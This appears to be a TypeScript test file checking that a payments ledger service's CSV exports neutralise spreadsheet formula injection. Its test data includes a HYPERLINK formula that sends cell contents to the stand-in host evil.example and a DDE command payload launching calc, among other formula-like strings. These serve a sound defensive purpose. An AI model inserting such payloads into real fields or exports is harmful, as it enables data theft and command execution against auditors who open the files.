import { SettlementService } from '../../src/sync/settlement.service';
import { ledgerViolations } from '../support/ledger-checks';
import { useTestApp } from '../support/app';
import { parseCsv } from '../support/csv';
import { postTransfer } from '../support/journal';

/** What a spreadsheet evaluates: a cell starting with one of these (and the full-width forms Numbers folds). */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const PLAIN_NUMBER = /^-\d+(\.\d+)?$/;

/**
 * Any loads:write key writes descriptions, remarks and metadata; an auditor opens the exports. Every CSV the
 * service produces is read back with an independent RFC 4180 reader and no cell may start like a formula.
 */
describe('CSV exports are safe to open in a spreadsheet', () => {
  const ctx = useTestApp();
  const EVIL = {
    description: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    remarks: "+1+cmd|' /C calc'!A0",
    metadata: { note: '@SUM(A1:A9)' },
  };

  beforeAll(async () => {
    const billing = (await ctx.app.api('POST', '/v1/api-keys', { body: { name: '-billing', scopes: ['loads:write'] } })).body.key as string;
    const made = await ctx.app.api('POST', '/v1/card-loads', {
      key: billing,
      headers: { 'idempotency-key': 'csv-1' },
      body: { enKashCardId: 'EKCCSV0001', amount: '12.50', cardAccountId: 'CACSV', ...EVIL },
    });
    expect(made.status).toBe(201);
    // A reversal gives the card history a negative amount, which must stay a number.
    await ctx.app.app.get(SettlementService).settle(made.body.id, 'reversed', { reason: '@reason', actor: 'test' });
    expect(
      (
        await ctx.app.api('POST', '/v1/accounts', {
          body: { code: 'external:csvfund', currency: 'INR', normalSide: 'debit', name: '\t=1+1' },
        })
      ).status,
    ).toBe(201);
    expect((await postTransfer(ctx.app, '-2+3+cmd', 'external:csvfund', 'parent:CACSV', '100.00')).status).toBe(201);
  });

  const EXPORTS = [
    '/v1/card-loads',
    '/v1/cards/EKCCSV0001/history',
    '/v1/accounts',
    '/v1/accounts/parent:CACSV/entries',
    '/v1/accounts/card:EKCCSV0001/entries',
    '/v1/journal',
    '/v1/reports/trial-balance',
    '/v1/reports/reconciliation',
  ];

  it.each(EXPORTS)('should neutralise every formula-like cell of %s', async (path) => {
    const r = await ctx.app.api('GET', `${path}?format=csv`);
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toMatch(/^text\/csv/);
    const cells = parseCsv(r.text).flat();
    expect(cells.filter((c) => FORMULA_START.test(c) && !PLAIN_NUMBER.test(c))).toEqual([]);
  });

  it('should still carry what was written, shown as text, and leave the JSON answers unchanged', async () => {
    const loads = parseCsv((await ctx.app.api('GET', '/v1/card-loads?format=csv')).text);
    const [header, row] = loads;
    const cell = (name: string) => row[header.indexOf(name)];
    expect([cell('description'), cell('remarks'), cell('metadata')]).toEqual([
      `'${EVIL.description}`,
      `'${EVIL.remarks}`,
      JSON.stringify(EVIL.metadata),
    ]);
    const journal = (await ctx.app.api('GET', '/v1/journal?format=csv')).text;
    expect(journal).toContain(`'-2+3+cmd`);
    expect((await ctx.app.api('GET', '/v1/accounts?format=csv')).text).toContain(`'\t=1+1`);
    expect(parseCsv((await ctx.app.api('GET', '/v1/cards/EKCCSV0001/history?format=csv')).text).flat()).toContain('-12.50');
    expect(cell('statusReason')).toBe(`'@reason`);
    const json = (await ctx.app.api('GET', '/v1/card-loads')).body.data[0];
    expect(json).toMatchObject(EVIL);
    expect((await ctx.app.api('GET', '/v1/accounts/external:csvfund')).body.name).toBe('\t=1+1');
    expect(Object.values(await ledgerViolations(ctx.db)).flat()).toEqual([]);
  });
});
